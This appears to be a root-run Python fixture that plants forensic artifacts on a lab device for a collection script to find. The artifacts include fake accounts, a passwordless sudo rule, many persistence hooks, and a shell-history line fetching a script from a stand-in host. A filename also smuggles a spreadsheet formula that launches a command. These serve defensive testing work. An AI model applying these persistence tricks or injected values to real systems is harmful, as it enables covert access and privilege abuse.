"""Plants facts on a lab device, for collect.sh to find in a package. Runs as root on the device; what has to stay open stays in a process of
its own, which writes /var/tmp/planted/ready when all is there."""
import ctypes
import os
import socket
import sqlite3
import struct
import subprocess
import sys
import time

NOW = 1700000000
KEY = "AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl"


def put(path, text, mode=0o644, owner=0):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as file:
        file.write(text if isinstance(text, bytes) else text.encode())
    os.chown(path, owner, owner)
    os.chmod(path, mode)


def add(path, text):
    with open(path, "a", encoding="utf-8") as file:
        file.write(text)


def login(kind, user, line, host, address):
    return struct.pack("<hxxi32s4s32s256shhiii4i20s", kind, 4242, line, b"p1", user, host, 0, 0, 0, NOW, 0,
                       *struct.unpack("<4i", socket.inet_aton(address) + bytes(12)), bytes(20))


def accounts():
    add("/etc/passwd", "ada:x:2101:2101:Ada, \"the\" first:/home/ada:/bin/bash\ntoor:x:0:0::/root:/bin/sh\n")
    add("/etc/shadow", "ada:$6$plantedsalt$PLANTEDHASHPLANTEDHASH:19000:1:90:7:::\ntoor:!:19001:::::\n")
    add("/etc/group", "ada:x:2101:\nplanted-group:x:2102:ada,toor\n")
    os.makedirs("/home/ada/.ssh", exist_ok=True)
    for folder in ("/home/ada", "/home/ada/.ssh"):
        os.chown(folder, 2101, 2101)
    put("/etc/sudoers.d/planted", "ada ALL=(ALL) NOPASSWD: /bin/planted\n", 0o440)
    put("/etc/doas.conf", "permit nopass ada as root\n")
    put("/home/ada/.ssh/authorized_keys", f'command="/bin/planted, x" ssh-ed25519 {KEY} ada@planted\n', 0o600, 2101)
    put("/home/ada/.ssh/id_ed25519", "-----BEGIN OPENSSH PRIVATE KEY-----\nPLANTEDPRIVATEKEY\n", 0o600, 2101)
    put("/home/ada/.ssh/rc", "planted-ssh-rc\n", owner=2101)
    put("/run/utmp", login(7, b"ada", b"pts/9", b"planted.host", "192.0.2.77"))
    put("/var/log/wtmp", login(7, b"ada", b"pts/8", b"wtmp.host", "192.0.2.78") + login(2, b"reboot", b"~", b"", "0.0.0.0"))
    put("/var/log/btmp", login(6, b"mallory", b"ssh:notty", b"", "198.51.100.9"))
    put("/var/log/lastlog", bytes(292 * 2101) + struct.pack("<I32s256s", NOW, b"pts/7", b"lastlog.host"))
    put("/run/systemd/sessions/77", "UID=2101\nUSER=ada\nACTIVE=1\nSTATE=active\nREMOTE_HOST=203.0.113.5\nCLASS=user\n")


def autoruns():
    put("/etc/systemd/system/planted.service",
        "[Unit]\nDescription=A planted service\n[Service]\nUser=ada\nExecStart=/opt/planted/run \\\n  --twice\n[Install]\nWantedBy=multi-user.target\n")
    put("/etc/systemd/system/planted.timer", "[Timer]\nOnCalendar=*:0/5\nUnit=planted.service\n")
    for folder, unit in (("multi-user", "service"), ("timers", "timer")):
        wants = f"/etc/systemd/system/{folder}.target.wants"
        os.makedirs(wants, exist_ok=True)
        os.symlink(f"/etc/systemd/system/planted.{unit}", f"{wants}/planted.{unit}")
    put("/etc/systemd/system/ssh.service.d/planted.conf", "[Service]\nExecStartPre=/opt/planted/drop-in\n")
    os.symlink("/dev/null", "/etc/systemd/system/masked-by-planted.service")
    put("/home/ada/.config/systemd/user/ada-planted.service", "[Service]\nExecStart=/home/ada/planted\n", owner=2101)
    put("/var/lib/systemd/timers/stamp-planted.timer", "")
    os.utime("/var/lib/systemd/timers/stamp-planted.timer", (NOW, NOW))
    put("/etc/cron.d/planted", "SHELL=/bin/sh\n*/7 * * * * ada /opt/planted/cron --a,b\n")
    put("/var/spool/cron/crontabs/ada", "@reboot /home/ada/cron-planted\n", 0o600, 2101)
    put("/etc/cron.daily/planted", "#!/bin/sh\n", 0o755)
    put("/etc/anacrontab", "7 10 planted.weekly /opt/planted/anacron\n")
    put("/var/spool/cron/atjobs/a0000101b2c3d4", "#!/bin/sh\n# atrun uid=2101\nX=PLANTEDENVIRONMENT; export X\n/opt/planted/at\n", 0o700)
    put("/home/ada/.bashrc", "alias ls='/opt/planted/ls'\n", owner=2101)
    put("/etc/profile.d/planted.sh", "export PLANTED_PROFILE=1\n")
    put("/etc/ld.so.conf.d/planted.conf", "/opt/planted/lib\n")
    put("/etc/modprobe.d/planted.conf", "install usb-storage /opt/planted/modprobe\n")
    put("/etc/modules-load.d/planted.conf", "planted_module\n")
    put("/etc/udev/rules.d/99-planted.rules", 'ACTION=="add", RUN+="/opt/planted/udev"\n')
    put("/etc/pam.d/planted", "auth optional pam_exec.so /opt/planted/pam\n")
    put("/etc/xdg/autostart/planted.desktop", "[Desktop Entry]\nExec=/opt/planted/desktop\n")
    put("/home/ada/.config/autostart/ada.desktop", "[Desktop Entry]\nExec=/home/ada/desktop-planted\n", owner=2101)
    put("/etc/rc.local", "#!/bin/sh\n/opt/planted/rc\n", 0o755)
    put("/etc/init.d/planted", "#!/bin/sh\n", 0o755)
    put("/etc/apt/apt.conf.d/99planted", 'DPkg::Post-Invoke {"/opt/planted/apt";};\n')
    put("/etc/ssh/sshd_config.d/planted.conf", "PermitRootLogin yes\n")


def traces():
    put("/home/ada/.bash_history", "#1700000000\nwget http://planted.example/x.sh\nplain command\n", 0o600, 2101)
    put("/home/ada/.zsh_history", ": 1700000001:0;zsh-planted --x\n", 0o600, 2101)
    put("/home/ada/.local/share/recently-used.xbel",
        '<xbel>\n <bookmark href="file:///home/ada/planted%20doc.odt" modified="2026-01-02T03:04:05Z">\n'
        '  <bookmark:application name="x" exec="&apos;soffice %u&apos;" modified="2026-01-02T03:04:05Z" count="3"/>\n', owner=2101)
    put("/var/log/audit/audit.log",
        'type=SYSCALL msg=audit(1700000000.123:45): arch=c000003e syscall=59 success=yes pid=777 ppid=1 auid=2101 uid=0 tty=pts0 comm="planted" '
        'exe="/opt/planted/audited"\ntype=EXECVE msg=audit(1700000000.123:45): argc=2 a0="audited" a1=2D2D6120622C63\n')
    record = struct.pack("<BBHIIIIIIf8H16s", 2, 3, 0, 0, 0, 0, 888, 1, NOW, 0.0, *([0] * 8), b"acct-planted")
    put("/var/log/account/pacct", record)
    put("/var/log/auth.log", "Nov 14 sshd[1]: Failed password for planted-user from 198.51.100.9\n")
    put("/var/log/auth.log.1", "an older part\n")
    os.symlink("/etc/shadow", "/var/log/kern.log")
    put("/var/log/journal/planted/system.journal", b"LPKSHHRH planted journal".ljust(4096))
    add("/var/lib/dpkg/status", "\nPackage: planted-package\nStatus: install ok installed\nVersion: 6.6.6-1\nArchitecture: all\n"
        "Maintainer: Eve <eve@planted.example>\nDescription: a planted package\n")
    add("/var/log/dpkg.log", "2026-01-01 00:00:00 install planted-package:all <none> 6.6.6-1\n")
    put("/var/log/clamav/clamav.log", "/tmp/x: Planted.Signature FOUND\n")
    put("/etc/clamav/freshclam.conf", "HTTPProxyPassword PLANTEDPROXYPASSWORD\nDatabaseMirror planted.example\n")
    put("/var/lib/clamav/planted.cvd", b"ClamAV-VDB:14 Nov 2026 10-00 +0000:4711:999:90:d41d8cd98f00b204:sig:eve:1700000000".ljust(512))
    add("/etc/environment", "https_proxy=http://ada:PLANTEDPROXYPASSWORD@proxy.planted.example:3128/\n")
    add("/etc/fstab", "//srv/share /mnt cifs username=ada,password=PLANTEDPROXYPASSWORD 0 0\n")
    add("/etc/hosts", "203.0.113.66 planted-host.example\n")
    # The taint of the kernel is everybody's, so another file is laid over it.
    put("/var/tmp/planted/tainted", "12288\n")
    subprocess.run(["mount", "--bind", "/var/tmp/planted/tainted", "/proc/sys/kernel/tainted"], check=True)


def rpm_database():
    values = [(1000, 6, b"planted-rpm\0"), (1001, 6, b"7.7\0"), (1002, 6, b"1.el9\0"), (1022, 6, b"x86_64\0"), (1004, 9, b"a planted rpm\0")]
    index, store = b"", struct.pack(">I", NOW)
    index += struct.pack(">IIII", 1008, 4, 0, 1)
    for tag, kind, value in values:
        index += struct.pack(">IIII", tag, kind, len(store), 1)
        store += value
    store += b"\0" * (-len(store) % 4)
    files = [(1116, 4, struct.pack(">I", 0)), (1117, 8, b"rpm-program\0"), (1118, 8, b"/opt/planted/\0")]
    for tag, kind, value in files:
        index += struct.pack(">IIII", tag, kind, len(store), 1)
        store += value
    os.makedirs("/var/lib/rpm", exist_ok=True)
    database = sqlite3.connect("/var/lib/rpm/rpmdb.sqlite")
    database.execute("CREATE TABLE Packages (hnum INTEGER PRIMARY KEY AUTOINCREMENT, blob BLOB NOT NULL)")
    database.execute("INSERT INTO Packages (blob) VALUES (?)", (struct.pack(">II", len(values) + len(files) + 1, len(store)) + index + store,))
    database.commit()
    database.close()


def temporary():
    put("/tmp/planted-setuid", b"\x7fELF planted", 0o4755)
    put("/var/tmp/planted-script", "#!/bin/sh\n", 0o755)
    put("/dev/shm/planted-shm", b"PK\x03\x04planted")
    os.symlink("/etc/shadow", "/tmp/planted-link")
    os.mkfifo("/tmp/planted-fifo")
    os.setxattr("/var/tmp/planted-script", "user.planted", b"1")
    for name in (b"new\nline", b"com,ma", b"quo\"te", b"=cmd|'/c calc'!A1", b"bad\xffutf8", b"back\\x41slash"):
        put(b"/tmp/".decode() + os.fsdecode(name), "x")
    folder = "/tmp/many"
    os.mkdir(folder)
    for i in range(3000):
        os.close(os.open(f"{folder}/{i}", os.O_CREAT | os.O_WRONLY))


def message_bus():
    """The bus of a system without systemd."""
    os.makedirs("/run/dbus", exist_ok=True)
    subprocess.run(["dbus-daemon", "--system", "--fork", "--nopidfile"], check=True)


def hang_mount():
    """A file system of another program that never answers."""
    libc = ctypes.CDLL(None, use_errno=True)
    if not os.path.exists("/dev/fuse"):
        os.mknod("/dev/fuse", 0o20666, os.makedev(10, 229))
    fd = os.open("/dev/fuse", os.O_RDWR)
    os.makedirs("/tmp/hangs")
    options = f"fd={fd},rootmode=40000,user_id=0,group_id=0"
    if libc.mount(b"planted", b"/tmp/hangs", b"fuse", 0, options.encode()) != 0:
        raise OSError(ctypes.get_errno(), "mount")
    return fd


def network():
    run = lambda *words: subprocess.run(words, check=True)
    run("ip", "link", "add", "planted0", "type", "veth", "peer", "name", "planted1")
    run("ip", "link", "set", "planted0", "up")
    run("ip", "address", "add", "172.31.9.1/24", "dev", "planted0")
    run("ip", "neighbour", "add", "172.31.9.7", "lladdr", "02:00:5e:00:00:07", "dev", "planted0", "nud", "permanent")
    run("ip", "route", "add", "blackhole", "203.0.113.128/25")
    run("nft", "add table inet planted; add chain inet planted planted_chain { type filter hook input priority 50; policy accept; }; "
        "add rule inet planted planted_chain tcp dport 31337 counter drop comment \"planted rule\"; "
        "add set inet planted blocked { type ipv4_addr; flags interval; }; add element inet planted blocked { 198.51.100.66, 203.0.113.0/24 }")
    kept = []
    tcp = socket.create_server(("0.0.0.0", 4444))
    smb = socket.create_server(("0.0.0.0", 445))
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 5555))
    packet = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    local = socket.socket(socket.AF_UNIX)
    local.bind("\0planted-abstract")
    local.listen()
    out = socket.create_connection(("10.77.0.1", 22), timeout=20)
    kept += [tcp, smb, udp, packet, local, out]
    return kept, smb


def processes():
    shell = lambda text, **more: subprocess.Popen(["sh", "-c", text], **more)
    subprocess.run(["cp", "/bin/sleep", "/var/tmp/planted/deleted-program"], check=True)
    shell("exec /var/tmp/planted/deleted-program 10000")
    os.makedirs("/opt/planted", exist_ok=True)
    subprocess.run(["cp", "/bin/sleep", "/opt/planted/rpm-program"], check=True)
    shell("exec /opt/planted/rpm-program 10005")
    environment = dict(os.environ, LD_PRELOAD="/var/tmp/planted/none.so", PLANTED_SECRET="PLANTEDENVIRONMENT")
    shell("exec sleep 10001", env=environment, stderr=subprocess.DEVNULL)
    with open("/bin/sleep", "rb") as file:
        program = file.read()
    fd = os.memfd_create("planted-memory", 0)
    os.write(fd, program)
    if os.fork() == 0:
        os.execve(fd, ["planted-memfd", "10002"], {})
    subprocess.Popen(["setpriv", "--reuid", "2101", "--regid", "2101", "--clear-groups", "sleep", "10003"])
    subprocess.Popen(["unshare", "--net", sys.executable, "-c",
                      "import socket,time; s = socket.create_server(('0.0.0.0', 6666)); open('/var/tmp/planted/space', 'w').close(); time.sleep(10004)"])
    time.sleep(0.1)
    os.unlink("/var/tmp/planted/deleted-program")


def wait_for(path):
    until = time.monotonic() + 20
    while not os.path.exists(path):
        if time.monotonic() > until:
            raise SystemExit(f"{path} did not come")
        time.sleep(0.02)


os.makedirs("/var/tmp/planted", exist_ok=True)
accounts()
autoruns()
traces()
rpm_database()
temporary()
processes()
sockets, inbound = network()
wait_for("/var/tmp/planted/space")
message_bus()
fuse = hang_mount()
open("/var/tmp/planted/ready", "w").close()
inbound.settimeout(600)
peer = inbound.accept()
open("/var/tmp/planted/connected", "w").close()
time.sleep(3600)
